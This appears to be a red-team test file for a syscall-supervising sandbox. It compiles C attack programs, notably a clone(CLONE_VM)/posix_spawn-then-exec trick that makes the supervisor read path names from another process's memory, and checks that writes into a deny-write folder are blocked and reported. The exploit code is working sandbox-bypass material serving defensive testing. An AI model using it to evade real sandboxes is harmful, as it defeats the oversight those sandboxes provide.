// Red team rt20, on 0e0624d (wip/notif: the faster supervisor, issue 11). The new caches (the run's root fd in
// enforce, the /proc/<pid> fds, the 512-byte first read, the plain-name walk, the common-open fast path) held
// against threads with their own cwd (unshare CLONE_FS; also through /proc/thread-self/cwd, /proc/self/cwd,
// /proc/self/task/<tid>/cwd and /proc/<tid>/cwd), exec from a thread, chdir/fchdir, forks, paths past
// 512 bytes and across a page boundary, and a non-dumpable process (the `held` tests below).
//
// What got through is the older cache beside them, TargetMemory's /proc/<pid>/mem fds (also in ba2a9f8): a
// process B that shares its address space with A (clone CLONE_VM, no CLONE_THREAD) makes one supervised call
// (its mem fd is cached, on the shared mm), then execs. The cached fd still reads the old address space, which A
// keeps alive, so it does not read as empty and is not reopened: the supervisor reads B's next path argument
// from A's memory at the same address. With a non-PIE binary, `target` (".data", "d/x" in B's new image) is at
// the same address in A, where A wrote "ok-benign". So the supervisor decides `open("ok-benign")` while the
// kernel (or the emulation) acts for B:
// - warn mode, both tiers: d/x (deny-write d) is written and no "would block" is reported for it;
// - enforce, namespace tier: the open is continued (EROFS from the read-only mount, no violation reported);
// - enforce, fallback tier: the file emulation opens ok-benign and installs that fd in B: open("d/x") returns
//   an fd and B's write lands in ok-benign (a call that must be refused is performed, on another file).
import { strict as assert } from 'node:assert';
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { runCli } from './helpers';
import { TIERS, useSandbox } from './use-sandbox';

/** The CLONE_VM + exec attack. argv[2] "control": A leaves `target` alone (the same run, nothing hidden). */
const VM_C = String.raw`
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>
#include <sched.h>
#include <signal.h>
#include <sys/wait.h>
#include <spawn.h>
extern char **environ;
char target[64] = "d/x";
static char *self;
static volatile int go = 0;
static int child(void *a) {
  (void)a;
  int fd = open("ok-b", O_WRONLY | O_CREAT, 0644);
  if (fd >= 0) close(fd);
  while (!go) ;
  char *argv[] = { self, "open", NULL };
  execv(self, argv);
  _exit(99);
}
int main(int argc, char **argv) {
  self = realpath(argv[0], NULL);
  if (argc > 1 && !strcmp(argv[1], "open")) {
    int fd = open(target, O_WRONLY | O_CREAT, 0644);
    printf("exec'd: open(%s) = %d errno=%d\n", target, fd, fd < 0 ? errno : 0);
    if (fd >= 0) { write(fd, "PWNED\n", 6); close(fd); }
    char st[16]; strcpy(st, "d/y");
    fd = open(st, O_WRONLY | O_CREAT, 0644);
    printf("exec'd: open(%s) = %d errno=%d\n", st, fd, fd < 0 ? errno : 0);
    if (fd >= 0) close(fd);
    return 0;
  }
  if (argc > 2 && strstr(argv[2], "spawn")) {
    /* Plain libc: posix_spawn's child runs on this address space (CLONE_VM|CLONE_VFORK), opens its file
       action (a supervised call: its mem fd is cached on this mm), then execs. */
    if (!strstr(argv[2], "control")) strcpy(target, "ok-benign");
    posix_spawn_file_actions_t fa; posix_spawn_file_actions_init(&fa);
    posix_spawn_file_actions_addopen(&fa, 9, "ok-spawn", O_WRONLY | O_CREAT, 0644);
    char *av[] = { self, "open", NULL }; pid_t p;
    int e = posix_spawn(&p, self, &fa, 0, av, environ);
    if (e) { printf("posix_spawn failed %d\n", e); return 1; }
    int st; waitpid(p, &st, 0); printf("child status %d\n", WEXITSTATUS(st)); return 0;
  }
  char *stack = malloc(1 << 20);
  if (!(argc > 2 && strstr(argv[2], "control"))) strcpy(target, "ok-benign");
  pid_t b = clone(child, stack + (1 << 20), CLONE_VM | SIGCHLD, 0);
  if (b < 0) { printf("clone failed %d\n", errno); return 1; }
  usleep(200000);
  go = 1;
  int st; waitpid(b, &st, 0);
  printf("child status %d\n", WEXITSTATUS(st));
  return 0;
}
`;

/** The attacks on the new caches that held; each opens names in the deny-write folder d and prints errno. */
const ATK_C = String.raw`
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>
#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
static char *self;
static void tryopen(const char *tag, const char *p) {
  int fd = open(p, O_WRONLY | O_CREAT, 0644);
  printf("%s: open = %d errno=%d\n", tag, fd, fd < 0 ? errno : 0);
  if (fd >= 0) { write(fd, "PWNED\n", 6); close(fd); }
  fflush(stdout);
}
static void *th_fs(void *a) {
  (void)a;
  tryopen("ok thread-before", "ok-thread");
  if (unshare(CLONE_FS) != 0) printf("unshare CLONE_FS failed %d\n", errno);
  if (chdir("d") != 0) printf("chdir d failed %d\n", errno);
  tryopen("d thread-own-cwd", "x");
  return 0;
}
static void *th_procself(void *a) {
  (void)a;
  unshare(CLONE_FS); chdir("d");
  tryopen("d thread-self-cwd", "/proc/thread-self/cwd/x");
  tryopen("ok self-cwd-from-thread", "/proc/self/cwd/ok-ts");
  char b[128]; snprintf(b, sizeof b, "/proc/self/task/%d/cwd/z", (int)gettid()); tryopen("d self-task-tid-cwd", b);
  snprintf(b, sizeof b, "/proc/%d/cwd/w", (int)gettid()); tryopen("d proc-tid-cwd", b);
  return 0;
}
static void *th_exec(void *a) {
  (void)a;
  unshare(CLONE_FS);
  chdir("d");
  char *argv[] = { self, "child-open", NULL };
  execv(self, argv);
  printf("execv failed %d\n", errno);
  return 0;
}
int main(int argc, char **argv) {
  self = realpath(argv[0], NULL);
  const char *mode = argc > 1 ? argv[1] : "";
  if (!strcmp(mode, "child-open")) { tryopen("d after-exec-from-thread", "x"); return 0; }
  tryopen("ok main-before", "ok-main");
  if (!strcmp(mode, "thread")) {
    pthread_t t; pthread_create(&t, 0, th_fs, 0); pthread_join(t, 0);
    tryopen("ok main-after", "ok-main2");
  } else if (!strcmp(mode, "procself")) {
    pthread_t t; pthread_create(&t, 0, th_procself, 0); pthread_join(t, 0);
  } else if (!strcmp(mode, "exec")) {
    pthread_t t; pthread_create(&t, 0, th_exec, 0); pthread_join(t, 0);
  } else if (!strcmp(mode, "chdir")) {
    chdir("d"); tryopen("d after-chdir", "x");
    chdir(".."); int dfd = open("d", O_RDONLY | O_DIRECTORY); fchdir(dfd); tryopen("d after-fchdir", "y");
  } else if (!strcmp(mode, "long")) {
    char buf[2048]; int n = 0; while (n < 600) { buf[n++] = '.'; buf[n++] = '/'; } strcpy(buf + n, "d/long1");
    tryopen("d long-600", buf);
    char *pg = mmap(0, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memset(pg, 'Z', 8192);
    char *s = pg + 4096 - 300; memcpy(s, buf, n); strcpy(s + n, "d/long2");
    tryopen("d long-straddle", s);
    char *s2 = pg + 4096 - 2; strcpy(s2, "d/short3");
    tryopen("d short-straddle", s2);
    char b3[1024]; int m = 0; while (m < 506) { b3[m++] = '.'; b3[m++] = '/'; } strcpy(b3 + m, "d/e512");
    tryopen("d around-512", b3);
  } else if (!strcmp(mode, "fork")) {
    for (int i = 0; i < 20; i++) {
      pid_t p = fork();
      if (p == 0) { if (i % 2) { chdir("d"); tryopen("d fork-child-in-d", "x"); } else tryopen("ok fork-child", "ok-f"); _exit(0); }
      waitpid(p, 0, 0);
    }
  } else if (!strcmp(mode, "nondump")) {
    prctl(PR_SET_DUMPABLE, 0);
    tryopen("ok nondump-ws", "ok-nd");
    chdir("d"); tryopen("d nondump-d", "x");
  } else return 2;
  return 0;
}
`;

let binDir = '';
function build(name: string, src: string, extra: string[]): string | null {
  const c = path.join(binDir, `${name}.c`);
  const out = path.join(binDir, name);
  fs.writeFileSync(c, src);
  const r = spawnSync('gcc', ['-O0', ...extra, '-o', out, c, '-pthread'], { encoding: 'utf8' });
  return r.status === 0 ? out : null;
}

describe('red team rt20: the faster supervisor, its caches (real kernel)', function () {
  const sb = useSandbox();
  let vm: string | null = null;
  let atk: string | null = null;

  before(function () {
    this.timeout(60_000);
    binDir = fs.mkdtempSync(path.join(os.tmpdir(), 'rt20-bin-'));
    try {
      execFileSync('gcc', ['--version'], { stdio: 'ignore' });
    } catch {
      return;
    }
    // Static and non-PIE: no loader calls between the exec and the open (the fallback tier notifies those and
    // a read of unmapped memory would reopen the fd), and `target` at the same address in both images.
    vm = build('vm', VM_C, ['-static', '-no-pie']) ?? build('vm', VM_C, ['-no-pie']);
    atk = build('atk', ATK_C, []);
  });
  after(() => {
    if (binDir) fs.rmSync(binDir, { recursive: true, force: true });
  });

  function prepare(bin: string): string {
    const w = sb.workspace;
    fs.mkdirSync(path.join(w, 'd'));
    fs.copyFileSync(bin, path.join(w, path.basename(bin)));
    fs.chmodSync(path.join(w, path.basename(bin)), 0o755);
    return w;
  }

  for (const [tier, env] of TIERS) {
    it(`enforce: B shares A's address space (clone CLONE_VM), makes a call, execs; its open("d/x") is decided on A's memory through B's cached mem fd (${tier})`, async function () {
      this.timeout(60_000);
      if (!vm) this.skip();
      const w = prepare(vm as string);
      const r = await runCli(['run', '--workspace', w, '--mode', 'enforce', '--profile', 'moderate', '--deny-write', 'd', '--', './vm', 'x', 'attack'], { cwd: w, home: sb.home, env: { ...env } });
      const out = r.stdout + r.stderr;
      assert.match(r.stdout, /exec'd: open\(d\/y\) = -1 errno=13/, `the control open d/y was not refused: ${out}`);
      const benign = fs.existsSync(path.join(w, 'ok-benign')) ? fs.readFileSync(path.join(w, 'ok-benign'), 'utf8') : '';
      assert.equal(benign, '', `open("d/x") was performed on ok-benign (the name in the other process's memory) and B wrote there: ${out}`);
      assert.deepEqual(fs.readdirSync(path.join(w, 'd')), [], `d/x was written: ${out}`);
      assert.match(r.stdout, /exec'd: open\(d\/x\) = -1 errno=13/, `open("d/x") was not refused with EACCES as d/y was (it was continued or performed): ${out}`);
      assert.match(r.stderr, /Blocked write of d\/x/, `no violation reported for d/x (the supervisor decided on another process's memory): ${out}`);
    });

    it(`warn: the same trick writes d/x (deny-write d) without a "would block" report for it (${tier})`, async function () {
      this.timeout(60_000);
      if (!vm) this.skip();
      const w = prepare(vm as string);
      const r = await runCli(['run', '--workspace', w, '--mode', 'warn', '--profile', 'moderate', '--deny-write', 'd', '--', './vm', 'x', 'attack'], { cwd: w, home: sb.home, env: { ...env } });
      const out = r.stdout + r.stderr;
      assert.match(r.stderr, /would block write of d\/y/, `the control open d/y was not reported: ${out}`);
      assert.match(r.stderr, /would block write of d\/x/, `d/x was opened for writing with no report (decided on the other process's memory): ${out}`);
    });

    it(`enforce, plain libc: posix_spawn with a file action (CLONE_VM|CLONE_VFORK child opens ok-spawn, then execs); the exec'd open("d/x") is decided on the parent's memory (${tier})`, async function () {
      this.timeout(60_000);
      if (!vm) this.skip();
      const w = prepare(vm as string);
      fs.writeFileSync(path.join(w, 'ok-spawn'), ''); // exists: see the warn/fallback posix_spawn test below
      const r = await runCli(['run', '--workspace', w, '--mode', 'enforce', '--profile', 'moderate', '--deny-write', 'd', '--', './vm', 'x', 'spawn'], { cwd: w, home: sb.home, env: { ...env } });
      const out = r.stdout + r.stderr;
      assert.match(r.stdout, /exec'd: open\(d\/y\) = -1 errno=13/, `the control open d/y was not refused: ${out}`);
      assert.match(r.stdout, /exec'd: open\(d\/x\) = -1 errno=13/, `open("d/x") was not refused with EACCES as d/y was (continued, or performed on ok-benign): ${out}`);
      assert.match(r.stderr, /Blocked write of d\/x/, `no violation reported for d/x: ${out}`);
    });

    it(`warn, plain libc: the posix_spawn variant writes d/x without a "would block" report for it (${tier})`, async function () {
      this.timeout(60_000);
      if (!vm) this.skip();
      const w = prepare(vm as string);
      fs.writeFileSync(path.join(w, 'ok-spawn'), '');
      const r = await runCli(['run', '--workspace', w, '--mode', 'warn', '--profile', 'moderate', '--deny-write', 'd', '--', './vm', 'x', 'spawn'], { cwd: w, home: sb.home, env: { ...env } });
      const out = r.stdout + r.stderr;
      assert.match(r.stderr, /would block write of d\/y/, `the control open d/y was not reported: ${out}`);
      assert.match(r.stderr, /would block write of d\/x/, `d/x was opened for writing with no report: ${out}`);
    });

    // Open (issue 11 stop 21's note): pending until the emulation performs warn mode's calls in carved folders
    // against the integrity set. It fails today, as on ba2a9f8; un-skip it with the fix.
    it(`side finding (also in ba2a9f8): warn mode makes a new file or folder at the workspace's top (${tier})`, async function () {
      // The fallback tier's warn mode: Landlock keeps the integrity set, so the workspace's top folder (beside
      // .git, .vscode) is carved. The emulation that makes new names there ran in enforce only, so the call
      // was continued and Landlock refused it (EACCES, nothing reported); it now runs in warn mode too
      // (warn-new-names.test.ts has the rest).
      this.timeout(60_000);
      const w = sb.workspace;
      const r = await runCli(['run', '--workspace', w, '--mode', 'warn', '--profile', 'moderate', '--', '/bin/sh', '-c', 'echo hi > newf; echo file=$?; mkdir sub; echo dir=$?'], { cwd: w, home: sb.home, env: { ...env } });
      assert.match(r.stdout, /file=0/, `warn mode refused creating newf in the workspace: ${r.stdout}${r.stderr}`);
      assert.match(r.stdout, /dir=0/, `warn mode refused mkdir sub in the workspace: ${r.stdout}${r.stderr}`);
    });

    it(`control: the same run without the planted name reports and refuses d/x (${tier})`, async function () {
      this.timeout(60_000);
      if (!vm) this.skip();
      const w = prepare(vm as string);
      const r = await runCli(['run', '--workspace', w, '--mode', 'enforce', '--profile', 'moderate', '--deny-write', 'd', '--', './vm', 'x', 'control'], { cwd: w, home: sb.home, env: { ...env } });
      assert.match(r.stdout, /exec'd: open\(d\/x\) = -1 errno=13/, r.stdout + r.stderr);
      assert.match(r.stderr, /Blocked write of d\/x/, r.stdout + r.stderr);
    });

    for (const mode of ['thread', 'procself', 'exec', 'chdir', 'long', 'fork', 'nondump']) {
      it(`held: ${mode}: every open in the deny-write folder d is refused with EACCES and reported, d stays empty (${tier})`, async function () {
        this.timeout(60_000);
        if (!atk) this.skip();
        const w = prepare(atk as string);
        const r = await runCli(['run', '--workspace', w, '--mode', 'enforce', '--profile', 'moderate', '--deny-write', 'd', '--', './atk', mode], { cwd: w, home: sb.home, env: { ...env } });
        const out = r.stdout + r.stderr;
        const inD = r.stdout.split('\n').filter((l) => l.startsWith('d '));
        assert.ok(inD.length > 0, `the attack did not run: ${out}`);
        for (const l of inD) assert.match(l, /= -1 errno=13$/, `${l}: ${out}`);
        // A non-dumpable process is unreadable to an unprivileged supervisor (sbtest, fallback tier): then every
        // call is refused as unreadable, as in ba2a9f8 (never decided on what could not be read).
        const unreadable = /could not be read from the process/.test(r.stderr);
        if (!(mode === 'nondump' && unreadable)) {
          for (const l of r.stdout.split('\n').filter((x) => x.startsWith('ok '))) assert.match(l, /= \d+ errno=0$/, `${l}: ${out}`);
        }
        assert.match(r.stderr, /Blocked write of|could not be read from the process/, out);
        assert.deepEqual(fs.readdirSync(path.join(w, 'd')), [], out);
      });
    }
  }
});
